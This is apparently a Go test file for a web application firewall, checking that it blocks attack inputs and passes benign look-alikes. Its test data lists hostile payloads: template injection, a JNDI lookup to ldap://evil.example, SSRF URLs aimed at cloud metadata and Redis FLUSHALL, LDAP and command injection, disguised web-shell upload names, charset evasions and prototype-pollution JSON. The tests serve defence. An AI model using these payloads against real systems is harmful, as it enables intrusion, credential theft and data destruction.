package filter

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"
)

// Targets of the weak classes, as cross products of interchangeable parts
// (see cross in grammar_test.go), and look-alikes that share their words.

func targetAttacks() map[string][]string {
	m := map[string][]string{}
	m["ssti"] = append(cross("", []string{"{%print(", "{% set a=", "{{ "}, []string{"7*7", "7|int * 7"}, []string{")%}", " %}", " }}"}),
		"{{''['__cla'+'ss__']}}", "{{request|attr('application')}}", "${.now}", `${"a"?upper_case}`, "#if(1==1)yes#end", "${#ctx}", "{{lookup this 'constructor'}}", `{{ printf "%d" 49 }}`, "{7*7}")
	for _, d := range []string{"${::-", "${x:-", "${env:NaN:-"} {
		m["jndi"] = append(m["jndi"], "${j"+d+"n}d"+d+"i}:ldap://evil.example/a}")
	}
	// SSRF by what URL parsers read: an IPv4 number too large for 32
	// bits, a special scheme without its slashes and an IP in an
	// inet_aton spelling, a blank before the '@' of the user-info, a
	// link-local zone.
	m["ssrf"] = []string{"http://7147006462/", "http://0x41414141A9FEA9FE/", "http:2852039166", "http:/0xA9FEA9FE/latest/meta-data/", "http:0251.0376.0251.0376", "https:017700000001/admin", "http://example.com:80 &@10.0.0.5:6379/", "http://a.example\t@127.0.0.1/", "http://[fe80::1%eth0]/",
		// IPv6 addresses from which no public host is numbered.
		"http://[a::]", "http://[a::b]/", "http://[dead:beef:dead::beef:dead:beef:dead]", "http://[ff02::1]/"}
	m["ldap"] = []string{"*()|&'", "(uid=*)", "x)(|(uid=*", "*)(&(objectClass=*)", "admin)(!(&(1=0", "x))(|(&(cn=*"}
	return m
}

var targetBenign = []string{"{% set ns = namespace(found=false) %}", "{{ __('messages.welcome') }}", "{{ price * 2 }}", "row-${i%2} ${#dates.format(d)}", "{{printf \"%s\" .Name}}", "#include <stdio.h>", "(a) & (b) * c", "price ${a} and ${b}",
	// Rison, the URL state of Kibana and other apps: "!(" is an array.
	"(columns:!(message),sort:!(!('@timestamp',desc)))", "(filters:!(),query:(language:kuery,query:'a and not b'))"}

var targetPaths = cross("", []string{"/", "/app/"}, []string{"index.php.1", "config.php.txt", "actuator/beans", "WEB-INF./web.xml", "storage/logs/laravel.log", "example.com.zip", "phpinfo2.php", "wls-wsat/CoordinatorPortType", "vpn/../vpns/cfg/smb.conf", "_cat/indices?v", "_cluster/settings", "_all_dbs", "config/parameters.yml", "hystrix.stream", "manage/env", "+CSCOT+/translation-table"})

var targetBenignPaths = []string{"/static/app.bak.js", "/actuator/health", "/sitemap.xml.gz", "/releases/v1.2.1", "/logs", "/api/env", "/downloads/data.zip", "/.well-known/security.txt", "/products/_search", "/api/cats/indices"}

var redirectTargets = cross("", []string{"//trusted.example@", "/%2e%2e//", "@", "//evil%E3%80%82"}, []string{"evil.example"})
var redirectBenign = []string{"https://app.example.com/callback", "/dashboard", "//www.example.com/path", "@john", "/./settings"}
var ssrfTargets = cross("", []string{"http://"}, []string{"127.0.0.1.nip.io", "db.local", "redis:6379", "[64:ff9b::127.0.0.1]", "evil.example#@127.0.0.1", "foo@127.0.0.1:80@evil.example"}, []string{"/"})
var ssrfBenign = []string{"https://hooks.slack.com/services/T0/B0/X", "s3://bucket/key", "https://www.milan.example/", "https://192.0.2.10/",
	"https://cdn.example.com/12345678901/img.png", "https://api.example.com/v1/items?id=12345678901", "https://example.com/search?q=a @b", "https://social.example/@alice", "http://[2001:db8::1]/", "https://[2606:4700:4700::1111]/dns-query"}

func TestGrammarTargetAttacks(t *testing.T) {
	eng, err := New(Config{})
	if err != nil {
		t.Fatal(err)
	}
	check := func(place, name, v string) { expectBlocked(t, eng, place, name, v, true) }
	for _, ps := range targetAttacks() {
		for _, p := range ps {
			for _, place := range []string{"query", "form", "json"} {
				check(place, "q", p)
			}
		}
	}
	for _, place := range []string{"query", "json"} {
		for _, p := range redirectTargets {
			check(place, "next", p)
		}
		for _, p := range ssrfTargets {
			check(place, "url", p)
		}
	}
	for _, p := range targetPaths {
		d, err := eng.InspectRequest(httptest.NewRequest("GET", "http://app.example.com/", nil), RequestInfo{URI: p})
		if err != nil {
			t.Fatal(err)
		}
		if !d.Blocked {
			t.Errorf("path %q passed: %v", p, d.Matches)
		}
	}
}

func TestGrammarTargetBenign(t *testing.T) {
	eng, err := New(Config{})
	if err != nil {
		t.Fatal(err)
	}
	check := func(place, name, v string) { expectBlocked(t, eng, place, name, v, false) }
	for _, place := range []string{"query", "form", "json"} {
		for _, v := range targetBenign {
			check(place, "template", v)
		}
		for _, v := range redirectBenign {
			check(place, "next", v)
		}
		for _, v := range ssrfBenign {
			check(place, "url", v)
		}
	}
	for _, p := range targetBenignPaths {
		d, err := eng.Inspect(newReq("GET", "http://app.example.com"+p, "", ""))
		if err != nil {
			t.Fatal(err)
		}
		if d.Score > 0 {
			t.Errorf("benign path %q scored %d: %v", p, d.Score, d.Matches)
		}
	}
}

// expectBlocked sends name=v in place and reports (returning false) a
// verdict other than want.
func expectBlocked(t *testing.T, eng *Engine, place, name, v string, want bool) bool {
	t.Helper()
	return expectVerdict(t, eng, sendIn(place, name, v), fmt.Sprintf("%s=%q in %s", name, v, place), want)
}

// expectVerdict inspects r, which what describes, and reports (returning
// false) a verdict other than want.
func expectVerdict(t *testing.T, eng *Engine, r *http.Request, what string, want bool) bool {
	t.Helper()
	d, err := eng.Inspect(r)
	if err != nil {
		t.Fatal(err)
	}
	switch {
	case want && !d.Blocked:
		t.Errorf("%s passed: score %d %v", what, d.Score, d.Matches)
		return false
	case !want && d.Blocked:
		t.Errorf("benign %s blocked: %v", what, d.Matches)
		return false
	}
	return true
}

// TestPathSegmentParameters: a REST route hands a path segment to the
// application as a parameter (/items/{id}), so what blocks in a query
// value blocks there too, last segment or not; names with spaces,
// brackets and apostrophes (file names, encyclopaedia titles) pass.
func TestPathSegmentParameters(t *testing.T) {
	eng, err := New(Config{})
	if err != nil {
		t.Fatal(err)
	}
	inspect := func(uri string) Decision {
		t.Helper()
		r := httptest.NewRequest(http.MethodGet, "http://api.example.com/", nil)
		r.RequestURI = uri
		d, err := eng.Inspect(r)
		if err != nil {
			t.Fatal(err)
		}
		return d
	}
	for _, seg := range []string{"1%20OR%20true--", "1%20AND%201%3D1", "127.0.0.1%3Bid", "127.0.0.1%7Cwhoami", "%60id%60", "127.0.0.1%0Aid", "%2A%29%28objectClass%3D%2A", "%2A%29%28uid%3D%2A%29%29%28%7C%28uid%3D%2A"} {
		for _, uri := range []string{"/api/items/" + seg, "/api/items/" + seg + "/details"} {
			if d := inspect(uri); !d.Blocked {
				t.Errorf("%s passed: score %d %v", uri, d.Score, d.Matches)
			}
		}
	}
	// Padding segments do not hide the one that injects.
	for _, tail := range []string{"1%20OR%20true--", "127.0.0.1%3Bid"} {
		if uri := strings.Repeat("/a%20b", 40) + "/" + tail; !inspect(uri).Blocked {
			t.Errorf("%s after 40 padding segments passed", tail)
		}
	}
	// The URL a proxy path ends with is fetched: an internal one is SSRF.
	for _, uri := range []string{"/proxy/http://127.0.0.1:8080/admin", "/proxy/http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F",
		"/img/https:/169.254.169.254/latest/meta-data/", "/fetch/gopher://127.0.0.1:6379/_FLUSHALL", "/unsafe/300x200/http://10.0.0.5/secret.png"} {
		if d := inspect(uri); !d.Blocked {
			t.Errorf("%s passed: score %d %v", uri, d.Score, d.Matches)
		}
	}
	for _, uri := range []string{
		"/proxy/https://cdn.example.com/logo.png", "/unsafe/300x200/https://images.example.com/a.jpg", "/docs/http://www.w3.org/TR/", "/time/12:30/today",
		"/files/Report%20(final)%20v2.pdf", "/wiki/C%2B%2B_(programming_language)", "/wiki/Tom_%26_Jerry",
		"/wiki/Don't_Stop_Me_Now", "/search/Who's%20Afraid%20of%20Virginia%20Woolf%3F", "/wiki/M*A*S*H_(TV_series)",
		"/search/Law%20%26%20Order%3A%20Special%20Victims%20Unit", "/users;jsessionid=0A1B2C3D4E5F/profile",
		"/api/v1/orders/ord-00001234/lines/3", "/static/app.3f2a9c.js", "/search/1%20%2B%201%20%3D%202",
	} {
		if d := inspect(uri); d.Blocked {
			t.Errorf("%s blocked: %v", uri, d.Matches)
		}
	}
}

func TestPathURL(t *testing.T) {
	for in, want := range map[string]string{
		"/proxy/http://127.0.0.1/x":        "http://127.0.0.1/x",
		"/p/http%3A%2F%2F10.0.0.1%2Fa":     "http://10.0.0.1/a",
		"/http://localhost/":               "http://localhost/",
		"/a/https:/169.254.169.254/":       "https:/169.254.169.254/",
		"/time/12:30/today":                "",
		"/wiki/Help:Contents/x":            "",
		"/x/ab:/y":                         "",
		"/a/xhttp:/b/c/gopher://127.0.0.1": "xhttp:/b/c/gopher://127.0.0.1",
	} {
		if got := pathURL(in); got != want {
			t.Errorf("pathURL(%q) = %q, want %q", in, got, want)
		}
	}
}

// FuzzPathURL: what pathURL finds is a tail of the decoded path that
// starts with a scheme and ":/".
func FuzzPathURL(f *testing.F) {
	for _, s := range []string{"/proxy/http://127.0.0.1/x", "/p/http%3A%2F%2F10.0.0.1", "/time/12:30", "/:/", "/a:/b:/c"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, p string) {
		u := pathURL(p)
		if u == "" {
			return
		}
		dec, _ := percentDecode(p, false)
		if !strings.HasSuffix(dec, u) || !strings.Contains(u, ":/") || !isSchemeByte(u[0]) {
			t.Fatalf("pathURL(%q) = %q", p, u)
		}
	})
}

// TestMultipartLenientFileNames: a file name with a NUL byte makes the
// part header malformed to a strict parser, and is the name before the NUL
// to PHP or C code: that name is judged. The word in a file's content is
// not a name.
func TestMultipartLenientFileNames(t *testing.T) {
	eng, err := New(Config{})
	if err != nil {
		t.Fatal(err)
	}
	post := func(disposition, content string) Decision {
		t.Helper()
		bd := "----WebKitFormBoundaryX1"
		body := "--" + bd + "\r\nContent-Disposition: " + disposition + "\r\nContent-Type: image/jpeg\r\n\r\n" + content + "\r\n--" + bd + "--\r\n"
		r := httptest.NewRequest(http.MethodPost, "http://x/upload", strings.NewReader(body))
		r.Header.Set("Content-Type", "multipart/form-data; boundary="+bd)
		d, err := eng.Inspect(r)
		if err != nil {
			t.Fatal(err)
		}
		return d
	}
	if d := post("form-data; name=\"file\"; filename=\"shell.php\x00.jpg\"", "x"); !d.Blocked {
		t.Errorf("NUL-truncated script name passed: %v", d.Matches)
	}
	if d := post("form-data; name=\"file\"; filename=\"photo\x00.jpg\"", "x"); d.Blocked {
		t.Errorf("NUL in a harmless name blocked: %v", d.Matches)
	}
	// A malformed header elsewhere, and the word in content.
	bd := "----B"
	body := "--" + bd + "\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nfilename=run.php\r\n--" + bd + "\r\nBad\x00Header: x\r\n\r\ny\r\n--" + bd + "--\r\n"
	r := httptest.NewRequest(http.MethodPost, "http://x/upload", strings.NewReader(body))
	r.Header.Set("Content-Type", "multipart/form-data; boundary="+bd)
	d, err := eng.Inspect(r)
	if err != nil {
		t.Fatal(err)
	}
	for _, m := range d.Matches {
		if m.Rule == "upload-script-file" {
			t.Errorf("file name read from content: %v", d.Matches)
		}
	}
}

// TestMultipartEveryFileName: every spelling of a part's file name that
// some backend reads is judged: a filename* parameter (RFC 8187), a second
// filename parameter, a second Content-Disposition line.
func TestMultipartEveryFileName(t *testing.T) {
	eng, err := New(Config{})
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		headers string
		block   bool
	}{
		{"Content-Disposition: form-data; name=\"file\"; filename=\"a.jpg\"; filename*=UTF-8''a.php", true},
		{"Content-Disposition: form-data; name=\"file\"; filename*=UTF-8''shell%2Ephp", true},
		{"Content-Disposition: form-data; name=\"file\"; filename=\"a.jpg\"; filename=\"a.php\"", true},
		{"Content-Disposition: form-data; name=\"file\"; filename=\"x.jpg\"\r\nContent-Disposition: form-data; name=\"file\"; filename=\"x.php\"", true},
		{"Content-Disposition: form-data; name=\"file\"; filename=\"a.jpg\"; filename*=UTF-8''%C3%A9t%C3%A9.jpg", false},
		{"Content-Disposition: form-data; name=\"file\"; filename=\"C:\\\\Users\\\\me\\\\holiday (1).jpg\"", false},
		// A quoted-pair, as Werkzeug and PHP unquote it; NTFS streams.
		{"Content-Disposition: form-data; name=\"file\"; filename=\"shell.ph\\p\"", true},
		{"Content-Disposition: form-data; name=\"file\"; filename=\"shell.php::$DATA\"", true},
		{"Content-Disposition: form-data; name=\"file\"; filename=\"shell.aspx:x.jpg\"", true},
		{"Content-Disposition: form-data; name=\"file\"; filename=\"C:\\\\fakepath\\\\photo.jpg\"", false},
	} {
		bd := "----B1"
		body := "--" + bd + "\r\n" + c.headers + "\r\nContent-Type: image/jpeg\r\n\r\nx\r\n--" + bd + "--\r\n"
		r := httptest.NewRequest(http.MethodPost, "http://x/upload", strings.NewReader(body))
		r.Header.Set("Content-Type", "multipart/form-data; boundary="+bd)
		d, err := eng.Inspect(r)
		if err != nil {
			t.Fatal(err)
		}
		if d.Blocked != c.block {
			t.Errorf("%q: blocked %v, want %v (%v)", c.headers, d.Blocked, c.block, d.Matches)
		}
	}
}

func TestFileNames(t *testing.T) {
	for _, c := range []struct {
		cds    []string
		parsed string
		want   []string
	}{
		{[]string{`form-data; name="f"; filename="../a.php"`}, "a.php", []string{"../a.php"}},
		{[]string{`form-data; name="f"; filename="a.jpg"; filename*=UTF-8''b.php`}, "b.php", []string{"a.jpg", "b.php"}},
		{[]string{`form-data; name="f"; FILENAME=a.jpg`}, "", []string{"a.jpg"}},
		{[]string{`form-data; name="f"; filename="q\"uote.jpg"`}, `q"uote.jpg`, []string{`q\`, `q"uote.jpg`}},
		{[]string{`form-data; name="f"; filename="a.ph\p"`}, `a.ph\p`, []string{`a.ph\p`, "a.php"}},
	} {
		if got := fileNames(c.cds, c.parsed); !slices.Equal(got, c.want) {
			t.Errorf("fileNames(%q, %q) = %q, want %q", c.cds, c.parsed, got, c.want)
		}
	}
}

// TestBodyCharset: a body in a charset where ASCII is not its own bytes
// (EBCDIC, UTF-7) is refused; the charsets real clients send pass.
func TestBodyCharset(t *testing.T) {
	eng, err := New(Config{})
	if err != nil {
		t.Fatal(err)
	}
	for cs, block := range map[string]bool{
		"ibm037": true, "IBM500": true, "ibm01047": true, "cp1140": true, "csIBM037": true, "x-EBCDIC-KoreanExtended": true, "windows-20273": true, `"utf-7"`: true,
		"utf-8": false, "UTF-8": false, "iso-8859-1": false, "windows-1252": false, "cp850": false, "ibm850": false, "shift_jis": false, "euc-kr": false, "gb18030": false, "utf-16": false, "koi8-r": false,
	} {
		r := httptest.NewRequest(http.MethodPost, "http://x/login", strings.NewReader("user=alice&pass=x"))
		r.Header.Set("Content-Type", "application/x-www-form-urlencoded; charset="+cs)
		d, err := eng.Inspect(r)
		if err != nil {
			t.Fatal(err)
		}
		if d.Blocked != block {
			t.Errorf("charset %s: blocked %v, want %v (%v)", cs, d.Blocked, block, d.Matches)
		}
	}
}

// TestJSONPrototypePollution: constructor then prototype as nested JSON
// members is what a deep merge copies onto Object.prototype; the same
// words elsewhere are data.
func TestJSONPrototypePollution(t *testing.T) {
	eng, err := New(Config{})
	if err != nil {
		t.Fatal(err)
	}
	for body, block := range map[string]bool{
		`{"constructor":{"prototype":{"isAdmin":true}}}`:           true,
		`{"user":{"constructor":{"prototype":{"role":"admin"}}}}`:  true,
		`{"__proto__":{"isAdmin":true}}`:                           true,
		`{"constructor":"Ferrari","prototype":"SF-90"}`:            false,
		`{"xconstructor":{"prototype":1}}`:                         false,
		`{"car":{"constructor":{"name":"Ferrari"}},"prototype":2}`: false,
	} {
		// Typed JSON, and JSON sent as text (beacons, some SDKs).
		for _, ctype := range []string{"application/json", "text/plain"} {
			r := httptest.NewRequest(http.MethodPost, "http://x/api", strings.NewReader(body))
			r.Header.Set("Content-Type", ctype)
			d, err := eng.Inspect(r)
			if err != nil {
				t.Fatal(err)
			}
			if d.Blocked != block {
				t.Errorf("%s as %s: blocked %v, want %v (%v)", body, ctype, d.Blocked, block, d.Matches)
			}
		}
	}
}
